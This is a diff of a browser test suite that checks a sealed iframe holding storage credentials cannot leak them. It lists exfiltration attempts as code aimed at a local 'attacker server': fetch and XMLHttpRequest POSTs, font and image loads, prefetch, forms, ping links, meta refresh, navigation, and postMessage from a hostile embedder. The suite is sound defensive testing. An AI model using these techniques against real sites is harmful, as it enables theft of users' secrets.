@@ -7,50 +7,50 @@ import { eventually, pageFile } from './browser.ts'
 import { exampleKeys } from './keys.ts'
 import { describePage } from './session.ts'
 
-/** Somebody who would like to have the keys: every request that comes is a failure. */
-const received: string[] = []
-const stranger = createServer((request, response) => {
-  received.push(`${request.method} ${request.url}`)
+/** The requests that reached the attacker's server. Each one is a failure. */
+const attackerRequests: string[] = []
+const attackerServer = createServer((request, response) => {
+  attackerRequests.push(`${request.method} ${request.url}`)
   response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
 })
-/** A store that sends its clients on to the stranger. */
-const asked: string[] = []
+/** The requests that reached a store that redirects its clients to the attacker's server. */
+const receivedRequests: string[] = []
 const redirecting = createServer((request, response) => {
-  asked.push(`${request.url}`)
+  receivedRequests.push(`${request.url}`)
   const cors = {
     'access-control-allow-origin': '*',
     'access-control-allow-methods': '*',
     'access-control-allow-headers': '*',
   }
   if (request.method === 'OPTIONS' || request.method === 'HEAD') response.writeHead(204, cors).end()
-  else response.writeHead(307, { ...cors, location: `${originOf(stranger)}${request.url}` }).end()
+  else response.writeHead(307, { ...cors, location: `${originOf(attackerServer)}${request.url}` }).end()
 })
-const originOf = (server: typeof stranger) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+const originOf = (server: typeof attackerServer) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`
 beforeAll(async () => {
-  for (const server of [stranger, redirecting]) await once(server.listen(0, '127.0.0.1'), 'listening')
+  for (const server of [attackerServer, redirecting]) await once(server.listen(0, '127.0.0.1'), 'listening')
 })
 afterAll(() => {
-  for (const server of [stranger, redirecting]) {
+  for (const server of [attackerServer, redirecting]) {
     server.closeAllConnections()
     server.close()
   }
 })
 
-/** Where an attempt would arrive. */
-const addressFor = (way: string) => `${originOf(stranger)}/${way.replaceAll(' ', '-')}`
+/** The URL that an attempt sends its request to. */
+const urlFor = (technique: string) => `${originOf(attackerServer)}/${technique.replaceAll(' ', '-')}`
 
-/** What a script in the sealed frame could try, if one could get there. Each says how it ended. */
+/** What a script could try if an attacker got one into the sealed frame. Each attempt returns its outcome. */
 const attempts = {
   fetch: (to: string) =>
     fetch(to).then(
       () => 'sent',
-      () => 'refused',
+      () => 'blocked',
     ),
   XMLHttpRequest: (to: string) =>
     new Promise((resolve) => {
       const request = new XMLHttpRequest()
       request.onload = () => resolve('sent')
-      request.onerror = () => resolve('refused')
+      request.onerror = () => resolve('blocked')
       request.open('POST', to)
       request.send('secret')
     }),
@@ -64,7 +64,7 @@ const attempts = {
   image: (to: string) => {
     new Image().src = to
   },
-  style: (to: string) => {
+  'background image': (to: string) => {
     document.body.setAttribute('style', `background: url(${to})`)
     document.body.style.backgroundImage = `url(${to})`
   },
@@ -73,7 +73,7 @@ const attempts = {
     void document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to })),
   prefetch: (to: string) =>
     void document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to })),
-  // It may be connected to, and be asked for nothing.
+  // This may open a connection, but must not send a request.
   preconnect: (to: string) =>
     void document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: to })),
   'speculation rules': (to: string) => {
@@ -84,8 +84,8 @@ const attempts = {
     void document.head.append(Object.assign(document.createElement('script'), { type: 'module', src: to })),
   font: (to: string) => {
     const [sheet] = document.styleSheets
-    sheet!.insertRule(`@font-face { font-family: stranger; src: url(${to}) }`)
-    sheet!.insertRule('body { font-family: stranger }', 1)
+    sheet!.insertRule(`@font-face { font-family: attacker; src: url(${to}) }`)
+    sheet!.insertRule('body { font-family: attacker }', 1)
   },
   media: (to: string) => {
     document.body.insertAdjacentHTML(
@@ -93,11 +93,11 @@ const attempts = {
       `<video src="${to}" poster="${to}"></video><svg><use href="${to}#a"/><image href="${to}"/></svg><embed src="${to}">`,
     )
   },
-  'frame of a blob': (to: string) => {
+  'frame with a blob URL': (to: string) => {
     const page = new Blob([`<img src="${to}"><meta http-equiv="refresh" content="0;url=${to}">`], { type: 'text/html' })
     document.body.append(Object.assign(document.createElement('iframe'), { src: URL.createObjectURL(page) }))
   },
-  'frame of its own': (to: string) => {
+  'frame with srcdoc': (to: string) => {
     const srcdoc = `<img src="${to}"><script>fetch("${to}")</script>`
     document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }))
   },
@@ -113,7 +113,7 @@ const attempts = {
       window.open(to)
     } catch {}
   },
-  'navigation of the top': (to: string) => {
+  'navigation of the top window': (to: string) => {
     try {
       top!.location.href = to
     } catch {}
@@ -121,20 +121,20 @@ const attempts = {
   'inline script': (to: string) => {
     document.body.append(Object.assign(document.createElement('script'), { textContent: `fetch('${to}')` }))
   },
-  evaluation: (to: string) => {
+  'new Function': (to: string) => {
     try {
       new Function('to', 'fetch(to)')(to)
     } catch {}
   },
-  'the page around': (to: string) => {
+  'fetch of the page that contains the frame': (to: string) => {
     try {
       ;(parent as unknown as { fetch(to: string): void }).fetch(to)
     } catch {}
   },
 }
 
-/** The same of what may leave nothing of the frame, so that each needs a page of its own. */
-const departures = {
+/** Attempts that can navigate the frame away, so that each needs a fresh page. */
+const navigations = {
   form: (to: string) => {
     const form = Object.assign(document.createElement('form'), { action: to, method: 'post' })
     document.body.append(form)
@@ -145,12 +145,12 @@ const departures = {
     document.body.append(link)
     link.click()
   },
-  'link that tells': (to: string) => {
+  'link with a ping': (to: string) => {
     const link = Object.assign(document.createElement('a'), { href: to, ping: to })
     document.body.append(link)
     link.click()
   },
-  'link to the top': (to: string) => {
+  'link for the top window': (to: string) => {
     const link = Object.assign(document.createElement('a'), { href: to, target: '_top' })
     document.body.append(link)
     link.click()
@@ -158,12 +158,12 @@ const departures = {
   navigation: (to: string) => {
     location.href = to
   },
-  refresh: (to: string) => {
+  'meta refresh': (to: string) => {
     document.head.append(
       Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${to}` }),
     )
   },
-  'frame that goes on': (to: string) => {
+  'frame with a meta refresh': (to: string) => {
     const srcdoc = `<meta http-equiv="refresh" content="0;url=${to}">`
     document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }))
   },
@@ -171,42 +171,42 @@ const departures = {
 
 describePage((session) => {
   beforeEach(() => {
-    received.length = 0
+    attackerRequests.length = 0
   })
 
-  /** Waits until what was tried would have come, and sees that it has not. */
+  /** Waits long enough for a request to arrive, and checks that none did. */
   const settled = async () => {
     await new Promise((resolve) => setTimeout(resolve, 500))
-    expect(received).toEqual([])
+    expect(attackerRequests).toEqual([])
     expect(session.visited.page.url()).toBe(session.url)
   }
 
-  it('is sealed: nothing that a script could try sends anything', async () => {
-    // What is refused may still be told of as a request.
-    session.allow(originOf(stranger))
-    session.allow(originOf(stranger).replace('http', 'ws'))
+  it('sends nothing, whatever a script in the sealed frame tries', async () => {
+    // Browsers may report a blocked request as a request, so allow it here.
+    session.allow(originOf(attackerServer))
+    session.allow(originOf(attackerServer).replace('http', 'ws'))
     await session.visited.press('Fill in an example')
-    for (const [way, attempt] of Object.entries(attempts)) {
-      const outcome = await session.visited.frame.evaluate(attempt as (to: string) => unknown, addressFor(way))
-      expect(outcome ?? 'refused', way).toBe('refused')
+    for (const [technique, attempt] of Object.entries(attempts)) {
+      const outcome = await session.visited.frame.evaluate(attempt as (to: string) => unknown, urlFor(technique))
+      expect(outcome ?? 'blocked', technique).toBe('blocked')
     }
     await settled()
   })
 
-  it.each(Object.entries(departures))('is sealed: a %s sends nothing', async (way, attempt) => {
-    session.allow(originOf(stranger))
-    // A frame that is gone tells no more.
-    await session.visited.frame.evaluate(attempt, addressFor(way)).catch(() => {})
+  it.each(Object.entries(navigations))('sends nothing through a %s in the sealed frame', async (technique, attempt) => {
+    session.allow(originOf(attackerServer))
+    // `evaluate` fails if the attempt replaced the frame.
+    await session.visited.frame.evaluate(attempt, urlFor(technique)).catch(() => {})
     await settled()
   })
 
-  it('can keep nothing: the frame has no storage of any kind', async () => {
+  it('denies the sealed frame every kind of storage', async () => {
     const kept = await session.visited.frame.evaluate(async () => {
       const tries: Record<string, () => unknown> = {
         localStorage: () => localStorage.setItem('a', 'b'),
         sessionStorage: () => sessionStorage.setItem('a', 'b'),
         cookie: () => {
-          // biome-ignore lint/suspicious/noDocumentCookie: no store of cookies is to be had
+          // biome-ignore lint/suspicious/noDocumentCookie: the test tries every kind of storage
           document.cookie = 'a=b'
         },
         indexedDB: () =>
@@ -229,22 +229,22 @@ describePage((session) => {
     expect(kept).toEqual([])
   })
 
-  it('lets a request go to its store alone, whatever the store says', async () => {
+  it('does not follow a redirect to another host', async () => {
     session.allow(originOf(redirecting))
-    session.allow(originOf(stranger))
+    session.allow(originOf(attackerServer))
     await session.fillServer(originOf(redirecting), 'bucket', exampleKeys)
     await session.visited.fill('Key', 'a')
     await session.visited.press('Send GET')
     await session.visited.see('.outcome', /redirected to another host, and this page sends nothing there/)
-    expect(received).toEqual([])
+    expect(attackerRequests).toEqual([])
   })
 
-  it('lets a sender be told by the page around alone', async () => {
+  it('lets a sender accept messages only from the page that contains it', async () => {
     session.allow(originOf(redirecting))
-    session.allow(originOf(stranger))
+    session.allow(originOf(attackerServer))
     await session.fillServer(originOf(redirecting), 'bucket', exampleKeys)
     await session.visited.fill('Key', 'a')
-    // A sender that nobody has told anything yet, as each is for a moment.
+    // Adds a second sender that has not received its request yet. Every sender is briefly in this state.
     await session.visited.page.evaluate(() => {
       const observer = new MutationObserver(([added]) => {
         observer.disconnect()
@@ -259,14 +259,14 @@ describePage((session) => {
         for (let index = 0; index < parent.length; index++)
           parent[index]!.postMessage({ url: to, method: 'GET', headers: {} }, '*', [new MessageChannel().port2])
       },
-      `${originOf(redirecting)}/told-by-another`,
+      `${originOf(redirecting)}/from-the-frame`,
     )
     await settled()
-    expect(asked).toEqual(expect.arrayContaining([expect.stringMatching(/^\/bucket\/a\?/)]))
-    expect(asked).not.toContain('/told-by-another')
+    expect(receivedRequests).toEqual(expect.arrayContaining([expect.stringMatching(/^\/bucket\/a\?/)]))
+    expect(receivedRequests).not.toContain('/from-the-frame')
   })
 
-  it('knows nothing of what the sealed frame knows, in the page around', async () => {
+  it('keeps credentials out of the page that contains the sealed frame', async () => {
     await session.visited.press('Fill in an example')
     await session.visited.see('.url', /X-Amz-Signature/)
     const around = await session.visited.page.evaluate(() => document.documentElement.outerHTML)
@@ -281,7 +281,7 @@ describePage((session) => {
     expect(reached).toBe(false)
   })
 
-  it('does not work inside another page, which could cover it', async () => {
+  it('does not work in a frame of another page, which could cover it', async () => {
     const embedder = createServer((_, response) => {
       response.writeHead(200, { 'content-type': 'text/html' })
       response.end(
@@ -304,7 +304,7 @@ describePage((session) => {
     }
   })
 
-  it.each(['frame', 'window'] as const)('sends nothing for a hostile page that opens it in a %s', async (kind) => {
+  it.each(['frame', 'window'] as const)('sends no requests for a hostile page that opens it in a %s', async (kind) => {
     const requested: string[] = []
     const host = createServer((request, response) => {
       requested.push(request.url!)
@@ -335,7 +335,7 @@ describePage((session) => {
           }
           Object.assign(globalThis, { victim })
           const answers: unknown[] = []
-          /** Posts from this page, or from a frame that is removed before its message arrives, so that it has no source. */
+          /** Posts from this page, or from a frame that is removed before the message arrives, which has no source. */
           const post = (request: object, removed: boolean) => {
             const { port1, port2 } = new MessageChannel()
             port1.onmessage = ({ data }) => answers.push(data)
